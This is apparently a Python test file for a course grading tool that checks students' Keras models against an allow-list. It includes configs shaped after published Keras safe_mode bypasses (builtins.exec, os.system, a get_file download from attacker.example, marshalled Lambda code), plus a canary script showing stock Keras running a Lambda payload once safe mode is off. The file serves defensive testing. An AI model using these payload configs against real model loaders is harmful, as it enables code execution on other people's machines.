"""coursekit/student/modelspec.py: the checker runs a student's model as Keras would, from its config as
data, and only a config inside the allow-list ever reaches Keras.

Cheap: tiny models with fixed weights, no training. "Through the wire" is the real path: the
student's kernel's reader (coursekit/transfer/export.py's convert, coursekit/student/live.py) writes a message,
the checker's reader (coursekit/transfer/wire.py) decodes it, the checks validate and rebuild.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import textwrap
from pathlib import Path

import numpy as np
import pytest

from coursekit.student import checks, modelspec
from coursekit.transfer import wire
from coursekit.student.checks import CheckFailed
from coursekit.student.modelspec import Unsupported
from coursekit.student.values import ModelData

tf = pytest.importorskip("tensorflow")
keras = tf.keras
REPO = Path(__file__).resolve().parent.parents[2]
TUTORIAL = [("Flatten",), ("Dense", 128, "relu"), ("Dense", 10, "softmax")]
IMAGES = np.random.default_rng(5).random((40, 28, 28))
LABELS = np.arange(40) % 10


def fixed_weights(seed: int = 0, hidden: int = 128):
    rng = np.random.default_rng(seed)
    return [rng.normal(0, 0.05, (784, hidden)).astype("float32"), rng.normal(0, 0.1, hidden).astype("float32"),
            rng.normal(0, 0.3, (hidden, 10)).astype("float32"), rng.normal(0, 0.1, 10).astype("float32")]


def tutorial(first=None, output="softmax", weights=None, hidden=128):
    """The tutorial's model (or with another first layer / output activation), fixed weights."""
    model = keras.Sequential([keras.Input((28, 28)), first or keras.layers.Flatten(),
                              keras.layers.Dense(hidden, activation="relu"), keras.layers.Dense(10, activation=output)])
    model.set_weights(weights or fixed_weights(hidden=hidden))
    return model


def functional(output="softmax"):
    inputs = keras.Input((28, 28))
    hidden = keras.layers.Dense(128, activation="relu")(keras.layers.Flatten()(inputs))
    model = keras.Model(inputs, keras.layers.Dense(10, activation=output)(hidden))
    model.set_weights(fixed_weights())
    return model


def through_the_wire(tmp_path: Path, value, message: str = "r1"):
    """``value`` as the checker receives it: written by the student's kernel's reader, decoded
    by the checker's."""
    from coursekit.transfer import export

    writer = wire.Writer(tmp_path / message, export.convert)
    writer.write({"values": {"v": writer.encode(value)}, "missing": []})
    base = wire.open_base(tmp_path)
    try:
        manifest, reader = wire.read_message(base, message)
        try:
            return wire.decode_named(reader, manifest["values"], ["v"])["v"]
        finally:
            reader.close()
    finally:
        os.close(base)


def record(config: dict, weights=None, compiled=False, compile_config=None) -> ModelData:
    """A model record as the wire gives it for a (hostile) config."""
    return ModelData([], weights if weights is not None else [[] for _ in config["config"].get("layers", [])],
                     (None, 4), None, compiled, None, "Sequential", config=config, compile_config=compile_config)


def sequential(*layers, shape=(4,)) -> dict:
    entries = [{"module": "keras.layers", "class_name": "InputLayer",
                "config": {"batch_shape": [None, *shape], "dtype": "float32", "name": "in"}, "registered_name": None}]
    return {"module": "keras", "class_name": "Sequential", "registered_name": None,
            "config": {"name": "s", "layers": entries + list(layers)}}


def lambda_layer(function, arguments=None, name="l") -> dict:
    return {"module": "keras.layers", "class_name": "Lambda", "registered_name": None,
            "config": {"name": name, "function": function, "arguments": arguments or {}}}


def dense(units=2, **settings) -> dict:
    return {"module": "keras.layers", "class_name": "Dense", "registered_name": None,
            "config": {"name": settings.pop("name", "d"), "units": units, **settings}}


# --- published safe_mode bypasses, refused before Keras sees them --------------------------------
# Each config is the shape of a published exploit (io-no/CVE-Reports issues 5 and 7, the GHSA
# advisories): Keras 3.15.1, installed here, refuses these in safe mode itself (the bypasses were
# fixed in 3.9 to 3.12), which tests/student/test_modelspec.py::test_stock_keras_runs_a_lambda_payload_once_safe_mode_is_off
# shows; the allow-list refuses them on its own, before any Keras function is called, and would
# on a Keras where they work.

MARSHALLED = "4wEAAAAAAAAAAAAAAAEAAAADAAAA8wYAAAB8AFMAKQFOqQApAdoBeHIBAAAAcgEAAAD6AHIDAAAA"  # any code object
BYPASSES = {
    # CVE-2025-1550: config.json names an arbitrary module and function, imported and called.
    "CVE-2025-1550 builtins.exec": sequential(lambda_layer(
        {"module": "builtins", "class_name": "function", "config": "exec", "registered_name": "function"},
        {"source": "open('/tmp/pwned', 'w')"})),
    "CVE-2025-1550 os.system as a layer": sequential({"module": "os", "class_name": "system",
                                                      "config": {"command": "touch /tmp/pwned"}, "registered_name": None}),
    "CVE-2025-1550 activation from builtins": sequential(dense(activation={
        "module": "builtins", "class_name": "function", "config": "exec", "registered_name": "function"})),
    # CVE-2025-8747: keras.utils.get_file reached through a config (downloads and unpacks anywhere).
    "CVE-2025-8747 get_file": sequential(lambda_layer(
        {"module": "keras.utils", "class_name": "function", "config": "get_file", "registered_name": "function"},
        {"fname": "x", "origin": "http://attacker.example/x.tar.gz", "extract": True, "cache_dir": "/"})),
    "CVE-2025-8747 get_file as a class": sequential({"module": "keras.utils", "class_name": "get_file",
                                                     "config": {"origin": "http://attacker.example/x"},
                                                     "registered_name": None}),
    # CVE-2025-9905: a Lambda layer's marshalled code (an .h5 where safe_mode was ignored).
    "CVE-2025-9905 __lambda__": sequential(lambda_layer(
        {"class_name": "__lambda__", "config": {"code": MARSHALLED, "defaults": None, "closure": None}})),
    # CVE-2025-9906: enable_unsafe_deserialization called from the config, then a Lambda.
    "CVE-2025-9906 enable_unsafe_deserialization then Lambda": sequential(
        lambda_layer({"module": "keras.config", "class_name": "function", "config": "enable_unsafe_deserialization",
                      "registered_name": "function"}, name="unsafe"),
        lambda_layer({"class_name": "__lambda__", "config": {"code": MARSHALLED, "defaults": None, "closure": None}})),
    "CVE-2025-9906 load_model with safe_mode off": sequential(lambda_layer(
        {"module": "keras.models", "class_name": "function", "config": "load_model", "registered_name": "function"},
        {"safe_mode": False})),
    # A custom class, a registered custom object, object sharing, a TensorFlow op as a layer.
    "custom class": sequential({"module": "__main__", "class_name": "MyDense", "config": {"name": "m"},
                                "registered_name": "Custom>MyDense"}),
    "Dense from another module": sequential({**dense(), "module": "mypackage.layers"}),
    "registered_name": sequential({**dense(), "registered_name": "Custom>Dense"}),
    "shared_object_id": sequential({**dense(), "shared_object_id": 1234}),
    "TFOpLambda": sequential({"module": "keras.layers", "class_name": "TFOpLambda",
                              "config": {"name": "t", "function": "math.add"}, "registered_name": None}),
    "initializer from another module": sequential(dense(kernel_initializer={
        "module": "os", "class_name": "system", "config": {}, "registered_name": None})),
    "dtype policy from another module": sequential(dense(dtype={
        "module": "builtins", "class_name": "eval", "config": {"name": "1"}, "registered_name": None})),
    "unknown key": sequential(dense(kernel_code="print(1)")),
    "subclassed model": {"module": "__main__", "class_name": "MyModel", "config": {"name": "m", "layers": []}},
}


@pytest.mark.parametrize("name", sorted(BYPASSES))
def test_a_published_bypass_is_refused_before_keras_sees_it(name, monkeypatch):
    config = BYPASSES[name]
    with pytest.raises(Unsupported) as refused:
        modelspec.validate(config)
    assert str(refused.value).startswith("this model cannot be checked: ")
    assert str(refused.value).endswith(" is not something the checks can run")

    def keras_saw_it(*_args, **_kwargs):  # pragma: no cover - must not be reached
        raise AssertionError("a refused config reached Keras")

    monkeypatch.setattr(modelspec, "build", keras_saw_it)
    model = record(config)
    for use in (lambda: checks.forward(model, np.zeros((1, 4))), lambda: checks.describe_layers(model),
                lambda: checks.accuracy(model, np.zeros((1, 4)), [0]), lambda: checks.class_probabilities(model, np.zeros((1, 4)))):
        with pytest.raises(CheckFailed, match="this model cannot be checked"):
            use()


CANARY = textwrap.dedent("""
    import base64, json, marshal, os, sys
    import keras
    from coursekit.student import modelspec
    canary = sys.argv[1]
    code = (lambda x: (open(CANARY, "w").write("ran"), x)[1]).__code__
    config = {"module": "keras", "class_name": "Sequential", "registered_name": None, "config": {"name": "s", "layers": [
        {"module": "keras.layers", "class_name": "InputLayer", "registered_name": None,
         "config": {"batch_shape": [None, 4], "dtype": "float32", "name": "in"}},
        {"module": "keras.layers", "class_name": "Lambda", "registered_name": None,
         "config": {"name": "l", "arguments": {}, "function": {"class_name": "__lambda__", "config": {
             "code": base64.encodebytes(marshal.dumps(code)).decode("ascii"), "defaults": None, "closure": None}}}}]}}
    outcome = {}
    try:
        modelspec.validate(config)
        outcome["ours"] = "accepted"
    except modelspec.Unsupported as err:
        outcome["ours"] = str(err)
    try:
        keras.saving.deserialize_keras_object(config, safe_mode=True)(keras.ops.zeros((1, 4)))
        outcome["stock_safe"] = "ran"
    except Exception as err:
        outcome["stock_safe"] = type(err).__name__
    outcome["canary_after_safe"] = os.path.exists(canary)
    keras.config.enable_unsafe_deserialization()  # what CVE-2025-9906 made a config do
    keras.saving.deserialize_keras_object(config)(keras.ops.zeros((1, 4)))
    outcome["canary_after_unsafe"] = os.path.exists(canary)
    print(json.dumps(outcome))
""")


def test_stock_keras_runs_a_lambda_payload_once_safe_mode_is_off(tmp_path):
    """The attack is real: a Lambda config whose marshalled code writes a canary file runs in stock
    Keras as soon as safe mode is off (what CVE-2025-9906's config did by calling
    keras.config.enable_unsafe_deserialization, and CVE-2025-9905's .h5 path by ignoring it).
    Keras 3.15.1, installed here, patched those bypasses: in safe mode it refuses the Lambda
    itself. The allow-list refuses the same config without Keras, whatever Keras' version."""
    canary = tmp_path / "canary"
    script = CANARY.replace("CANARY, ", repr(str(canary)) + ", ")
    env = dict(os.environ, TF_CPP_MIN_LOG_LEVEL="3", PYTHONPATH=str(REPO))
    run = subprocess.run([sys.executable, "-c", script, str(canary)], capture_output=True, text=True, env=env,
                         timeout=300, cwd=tmp_path)
    assert run.returncode == 0, run.stderr[-3000:]
    outcome = json.loads(run.stdout.strip().splitlines()[-1])
    assert outcome["ours"].startswith("this model cannot be checked: a Lambda layer")
    assert outcome["stock_safe"] == "ValueError" and outcome["canary_after_safe"] is False
    assert outcome["canary_after_unsafe"] is True  # defence off: the student's code ran


def test_stock_keras_of_this_version_does_not_import_a_module_a_config_names(tmp_path):
    """CVE-2025-1550 (a config naming any module, imported then called): patched in Keras 3.9.
    A canary module that writes a file when imported shows stock Keras 3.15.1 no longer imports
    it, in safe mode or not; the allow-list refuses the config before any import either way."""
    (tmp_path / "coursekit_canary.py").write_text(
        f"open({str(tmp_path / 'imported')!r}, 'w').write('imported')\ndef touch(x):\n    return x\n")
    import keras as stock_keras

    layer = dense(activation={"module": "coursekit_canary", "class_name": "function", "config": "touch",
                              "registered_name": "function"})
    sys.path.insert(0, str(tmp_path))
    try:
        for safe_mode in (True, False):
            with pytest.raises(Exception, match="coursekit_canary|touch|deserializ"):
                stock_keras.saving.deserialize_keras_object(layer, safe_mode=safe_mode)
    finally:
        sys.path.remove(str(tmp_path))
    assert not (tmp_path / "imported").exists()
    with pytest.raises(Unsupported, match="the Python function 'touch' from module 'coursekit_canary'"):
        modelspec.validate(sequential(layer))


# --- what a student may write: read and evaluated as the tutorial's model -----------------------


def test_the_tutorial_model_reads_as_before_through_the_wire(tmp_path):
    model = tutorial()
    model.compile(optimizer="adam", loss="sparse_categorical_crossentropy", metrics=["accuracy"])
    data = through_the_wire(tmp_path, model)
    assert isinstance(data, ModelData) and data.config is not None
    assert checks.describe_layers(data) == checks.describe_layers(model) == TUTORIAL
    checks.expect_architecture(data, TUTORIAL)
    assert checks.compile_settings(data) == {"optimizer": "adam", "loss": "sparse_categorical_crossentropy",
                                             "from_logits": False, "metrics": ["accuracy"]}
    ours = checks.forward(data, IMAGES)
    assert ours.dtype == np.float64
    assert np.allclose(ours, model.predict(IMAGES, verbose=0), atol=1e-5)
    w1, b1, w2, b2 = (w.astype(np.float64) for w in fixed_weights())  # the NumPy path the checks used before
    numpy = checks.softmax_reference(np.maximum(IMAGES.reshape(40, -1) @ w1 + b1, 0) @ w2 + b2)
    assert np.allclose(ours, numpy, rtol=0, atol=1e-12)
    assert np.array_equal(checks.class_probabilities(data, IMAGES), ours)
    assert np.array_equal(checks.predicted_classes(data, IMAGES), np.argmax(numpy, axis=1))


@pytest.mark.parametrize("loss, from_logits", [
    ("sparse_categorical_crossentropy", False),
    (keras.losses.sparse_categorical_crossentropy, False),  # the function: crashed the reader before
    (keras.losses.SparseCategoricalCrossentropy(), False),
    (keras.losses.SparseCategoricalCrossentropy(from_logits=True), True),
    ({"dense_1": "sparse_categorical_crossentropy"}, False),
])
def test_every_form_of_the_loss_reads_as_the_same_loss(tmp_path, loss, from_logits):
    model = tutorial(output=None if from_logits else "softmax")
    output_name = model.layers[-1].name
    if isinstance(loss, dict):
        loss = {output_name: loss["dense_1"]}
    model.compile(optimizer=keras.optimizers.Adam(1e-3), loss=loss,
                  metrics=["accuracy", keras.metrics.SparseCategoricalAccuracy()])
    for data in (model, through_the_wire(tmp_path, model)):
        settings = checks.compile_settings(data)
        assert settings == {"optimizer": "adam", "loss": "sparse_categorical_crossentropy", "from_logits": from_logits,
                            "metrics": ["accuracy", "sparse_categorical_accuracy"]}
        assert np.allclose(checks.class_probabilities(data, IMAGES), checks.forward(tutorial(), IMAGES), atol=1e-12)


def test_reading_the_compile_config_never_crashes():
    for odd in (None, 3, "x", [], {}, {"loss": 5}, {"loss": {"class_name": None}}, {"loss": [{"config": 3}]},
                {"optimizer": ["a"], "metrics": {"a": [None, {"config": {"name": 4}}]}},
                {"loss": {"a": "mse", "b": "mae"}, "metrics": "acc"}, {"loss": {"class_name": "function"}}):
        settings = modelspec.compile_settings(odd)
        assert set(settings) == {"optimizer", "loss", "from_logits", "metrics"}
        assert all(isinstance(m, str) for m in settings["metrics"])
    assert modelspec.compile_settings({"loss": "mse", "metrics": ["acc"]})["loss"] == "mean_squared_error"


@pytest.mark.parametrize("variant", ["reshape", "functional", "separate softmax", "logits"])
def test_an_equivalent_model_is_the_tutorial_model(tmp_path, variant):
    """Reshape((784,)) is Flatten() for a 28x28 image; the functional API builds the same chain;
    Dense(10) then Softmax() is Dense(10, activation='softmax'); a linear output compiled with
    from_logits=True gives the same probabilities. Same weights, same outputs, same verdicts."""
    if variant == "reshape":
        model = tutorial(first=keras.layers.Reshape((784,)))
        described = [("Reshape", (784,)), *TUTORIAL[1:]]
    elif variant == "functional":
        model = functional()
        described = TUTORIAL
    elif variant == "separate softmax":
        model = keras.Sequential([keras.Input((28, 28)), keras.layers.Flatten(), keras.layers.Dense(128, activation="relu"),
                                  keras.layers.Dense(10), keras.layers.Softmax()])
        model.set_weights(fixed_weights())
        described = [*TUTORIAL[:2], ("Dense", 10, "linear"), ("Softmax",)]
    else:
        model = tutorial(output=None)
        model.compile(optimizer="adam", loss=keras.losses.SparseCategoricalCrossentropy(from_logits=True),
                      metrics=["accuracy"])
        described = [*TUTORIAL[:2], ("Dense", 10, "linear")]
    data = through_the_wire(tmp_path, model)
    reference = checks.forward(tutorial(), IMAGES)
    assert checks.describe_layers(data) == described
    if variant != "logits":  # a linear output is not the architecture the question asks for
        checks.expect_architecture(data, TUTORIAL)
        assert np.allclose(checks.forward(data, IMAGES), reference, atol=1e-12)
    else:
        with pytest.raises(CheckFailed, match="softmax"):
            checks.expect_architecture(data, TUTORIAL)
    assert np.allclose(checks.class_probabilities(data, IMAGES), reference, atol=1e-12)
    assert checks.accuracy(data, IMAGES, LABELS) == checks.accuracy(tutorial(), IMAGES, LABELS)
    assert np.array_equal(checks.predicted_classes(data, IMAGES), np.argmax(reference, axis=1))


def test_a_sigmoid_output_gives_rows_normalised_to_probabilities(tmp_path):
    model = tutorial(output="sigmoid")
    data = through_the_wire(tmp_path, model)
    outputs = checks.forward(data, IMAGES)
    assert np.allclose(outputs, model.predict(IMAGES, verbose=0), atol=1e-5)
    probabilities = checks.class_probabilities(data, IMAGES)
    checks.expect_probability_rows(probabilities, "probabilities")
    assert np.allclose(probabilities, outputs / outputs.sum(axis=1, keepdims=True))
    assert np.array_equal(np.argmax(probabilities, axis=1), checks.predicted_classes(data, IMAGES))
    assert checks.accuracy(data, IMAGES, LABELS) == float((np.argmax(outputs, axis=1) == LABELS).mean())
    with pytest.raises(CheckFailed, match="softmax"):
        checks.expect_architecture(data, TUTORIAL)


def test_other_built_in_layers_run_as_keras_runs_them(tmp_path):
    normalization = keras.layers.Normalization()
    normalization.adapt(IMAGES.reshape(40, -1).astype("float32"))
    model = keras.Sequential([keras.Input((28, 28)), keras.layers.Rescaling(0.5), keras.layers.Reshape((28, 28, 1)),
                              keras.layers.Conv2D(3, 3, padding="same", activation="relu"), keras.layers.MaxPooling2D(),
                              keras.layers.BatchNormalization(), keras.layers.GlobalAveragePooling2D(),
                              keras.layers.Dense(10), keras.layers.Activation("softmax")])
    data = through_the_wire(tmp_path, model)
    assert np.allclose(checks.forward(data, IMAGES), model.predict(IMAGES, verbose=0), atol=1e-5)
    assert checks.describe_layers(data)[2] == ("Conv2D", 3, (3, 3), "relu")
    merged = keras.Input((28, 28))
    flat = keras.layers.Flatten()(merged)
    joined = keras.layers.Concatenate()([keras.layers.Dense(4)(flat), keras.layers.Add()([keras.layers.Dense(4)(flat),
                                                                                          keras.layers.Dense(4)(flat)])])
    model = keras.Model(merged, keras.layers.Dense(10, activation="softmax")(joined))
    data = through_the_wire(tmp_path, model, "r2")
    assert np.allclose(checks.forward(data, IMAGES), model.predict(IMAGES, verbose=0), atol=1e-5)
    model = keras.Sequential([keras.Input((28, 28)), keras.layers.Flatten(), normalization,
                              keras.layers.Dense(10, activation="softmax")])
    data = through_the_wire(tmp_path, model, "r3")
    assert checks.describe_layers(data) == [("Flatten",), ("Normalization",), ("Dense", 10, "softmax")]
    assert np.allclose(checks.forward(data, IMAGES), model.predict(IMAGES, verbose=0), atol=1e-4)


def test_a_model_the_checks_cannot_run_fails_only_the_checks_that_run_it(tmp_path):
    model = keras.Sequential([keras.Input((28, 28)), keras.layers.Flatten(), keras.layers.Lambda(lambda x: x * 2),
                              keras.layers.Dense(10, activation="softmax")])
    model.compile(optimizer="adam", loss="sparse_categorical_crossentropy", metrics=["accuracy"])
    data = through_the_wire(tmp_path, model)
    assert isinstance(data, ModelData)
    checks.expect_keras_model(data)
    assert checks.compile_settings(data)["loss"] == "sparse_categorical_crossentropy"
    assert tuple(data.input_shape) == (None, 28, 28)
    with pytest.raises(CheckFailed, match="this model cannot be checked: a Lambda layer"):
        checks.accuracy(data, IMAGES, LABELS)
    with pytest.raises(CheckFailed, match="this model cannot be checked"):
        checks.expect_architecture(data, TUTORIAL)


# --- hostile configs and weights: refused with a reason, no crash ---------------------------------


def tutorial_config_and_weights():
    data = checks.model_data(tutorial())
    return json.loads(json.dumps(data.config)), [list(w) for w in data.weights]


@pytest.mark.parametrize("attack, reason", [
    ("huge units", "Dense's units = 100000000"),
    ("deep nesting", "nested more than"),
    ("a million layers", "more than 20000 settings"),
    ("101 layers", "a model of 102 layers (at most 100)"),
    ("unknown key", "the setting 'surprise'"),
    ("unknown top key", "the setting 'hook'"),
    ("cycle", "not a layer defined before it"),
    ("wrong weight shape", "of shape (10, 10) where the layer's is (128, 10)"),
    ("missing weights", "with 1 weight arrays where it has 2"),
    ("NaN weights", "holds nan or inf"),
    ("integer weights", "an array of int64"),
    ("too many parameters", "a model of more than 20,000,000 weights"),
    ("string for units", "Dense's units = '128'"),
    ("bool for units", "Dense's units = True"),
])
def test_a_hostile_config_is_refused_with_its_reason(attack, reason):
    config, weights = tutorial_config_and_weights()
    layers = config["config"]["layers"]
    if attack == "huge units":
        layers[2]["config"]["units"] = 10**8
    elif attack == "deep nesting":
        inner = "x"
        for _ in range(200):
            inner = {"a": [inner]}
        layers[1]["config"]["data_format"] = inner
    elif attack == "a million layers":
        layers.extend([{"class_name": "Dropout", "config": {"name": f"d{i}", "rate": 0.1}} for i in range(10**6)])
        weights = None
    elif attack == "101 layers":
        layers.extend([{"class_name": "Dropout", "config": {"name": f"d{i}", "rate": 0.1}} for i in range(98)])
        weights = None
    elif attack == "unknown key":
        layers[2]["config"]["surprise"] = 1
    elif attack == "unknown top key":
        config["config"]["hook"] = "x"
    elif attack == "cycle":
        graph = checks.model_data(functional()).config
        later = graph["config"]["layers"][-1]["name"]  # the flatten layer fed by the output layer: a cycle
        graph["config"]["layers"][1]["inbound_nodes"][0]["args"][0]["config"]["keras_history"][0] = later
        config, weights = graph, None
    elif attack == "wrong weight shape":
        weights[3][0] = np.zeros((10, 10), "float32")
    elif attack == "missing weights":
        weights[3] = weights[3][:1]
    elif attack == "NaN weights":
        weights[2][0][0, 0] = np.nan
    elif attack == "integer weights":
        weights[2][0] = weights[2][0].astype(np.int64)
    elif attack == "too many parameters":
        layers[2]["config"]["units"] = 8000
        layers.insert(3, {"class_name": "Dense", "config": {"name": "big", "units": 8000}})
        weights = None
    elif attack == "string for units":
        layers[2]["config"]["units"] = "128"
    elif attack == "bool for units":
        layers[2]["config"]["units"] = True
    with pytest.raises(Unsupported) as refused:
        modelspec.validate(config, weights)
    assert reason in str(refused.value)


def test_hostile_config_text_in_a_message_is_read_strictly(tmp_path):
    """Configs written straight into a message (not by our writer): JSON text that is not an
    object, nested past Python's recursion limit, or longer than MAX_CONFIG_BYTES is an
    UnreadableValue; a config that parses but breaks the allow-list is a model whose checks fail
    with the reason."""
    base = {"t": "model", "type_name": "Sequential", "weights": [], "input_shape": None, "output_shape": None,
            "compiled": False, "fit_epochs": None, "fit_steps": None}
    values = {
        "not_object": {**base, "config": "[1, 2]"},
        "too_deep": {**base, "config": "[" * 100_000 + "]" * 100_000},
        "too_long": {**base, "config": json.dumps({"class_name": "Sequential", "config": {"name": "x" * wire.MAX_CONFIG_BYTES}})},
        "not_json": {**base, "config": "{'a': 1}"},
        "lambda": {**base, "config": json.dumps(BYPASSES["CVE-2025-9905 __lambda__"]), "weights": [[], []]},
    }
    folder = tmp_path / "r1"
    folder.mkdir()
    (folder / wire.MANIFEST).write_text(json.dumps({"version": wire.VERSION, "values": values, "missing": []}))
    descriptor = wire.open_base(tmp_path)
    try:
        manifest, reader = wire.read_message(descriptor, "r1")
        got = wire.decode_named(reader, manifest["values"], list(values))
        reader.close()
    finally:
        os.close(descriptor)
    for name in ("not_object", "too_deep", "too_long", "not_json"):
        assert type(got[name]).__name__ == "UnreadableValue", name
    assert isinstance(got["lambda"], ModelData) and got["lambda"].layers == []
    with pytest.raises(CheckFailed, match="a lambda|a Lambda layer"):
        checks.forward(got["lambda"], np.zeros((1, 4)))


def test_new_model_fields_travel_in_extra(tmp_path, monkeypatch):
    """A field another part adds at the end of ModelData travels without a change to the wire."""
    import dataclasses

    from coursekit.student import values

    fields = [(f.name, f.type, f) for f in dataclasses.fields(values.ModelData)]
    Extended = dataclasses.make_dataclass("ModelData", [*fields, ("later_field", object, dataclasses.field(default=None))])
    monkeypatch.setattr(wire, "ModelData", Extended)
    model = Extended([("Flatten",)], [[]], (None, 28, 28), None, False, None, later_field={"rows": 3})
    writer = wire.Writer(tmp_path / "r1")
    writer.write({"values": {"m": writer.encode(model)}, "missing": []})
    base = wire.open_base(tmp_path)
    try:
        manifest, reader = wire.read_message(base, "r1")
        got = wire.decode_named(reader, manifest["values"], ["m"])["m"]
        reader.close()
    finally:
        os.close(base)
    assert got.later_field == {"rows": 3} and got.layers == [("Flatten",)]


def test_the_checker_imports_tensorflow_only_to_run_a_model(tmp_path):
    """Decoding a model and reading its description and compile settings needs no TensorFlow;
    running it imports TensorFlow then."""
    model = tutorial()
    model.compile(optimizer="adam", loss=keras.losses.sparse_categorical_crossentropy, metrics=["accuracy"])
    through_the_wire(tmp_path, model)  # written here, read in a fresh process below
    script = textwrap.dedent(f"""
        import os, sys, numpy as np
        from coursekit.student import checks
        from coursekit.transfer import wire
        base = wire.open_base({str(tmp_path)!r})
        manifest, reader = wire.read_message(base, "r1")
        model = wire.decode_named(reader, manifest["values"], ["v"])["v"]
        assert checks.describe_layers(model)[1] == ("Dense", 128, "relu")
        assert checks.compile_settings(model)["loss"] == "sparse_categorical_crossentropy"
        before = "tensorflow" in sys.modules
        checks.forward(model, np.zeros((2, 28, 28)))
        print(before, "tensorflow" in sys.modules)
    """)
    env = dict(os.environ, TF_CPP_MIN_LOG_LEVEL="3", PYTHONPATH=str(REPO))
    run = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, env=env, timeout=300)
    assert run.returncode == 0, run.stderr[-3000:]
    assert run.stdout.split() == ["False", "True"]
